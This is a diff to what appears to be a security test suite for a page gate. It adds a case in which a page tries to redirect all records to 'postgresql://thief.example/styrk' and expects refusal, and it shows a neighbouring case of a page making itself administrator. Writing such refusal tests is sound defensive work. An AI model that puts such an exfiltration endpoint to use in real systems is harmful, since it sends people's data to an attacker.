@@ -229,6 +229,12 @@ const throughTheGate: readonly Attack[] = (
       (page) => page.call('trust.pin', ['ab'.repeat(32)]).then(refusedAs),
     ],
     [
+      'a headquarters of the page itself',
+      'has all records delivered to a server of its own, by its address alone',
+      'fleet.not-set',
+      (page) => page.call('headquarters.set', ['postgresql://thief.example/styrk']).then(refusedAs),
+    ],
+    [
       'a page that confirms by itself',
       'makes itself an administrator, and nobody answers in the window outside it',
       'trust.not-confirmed',
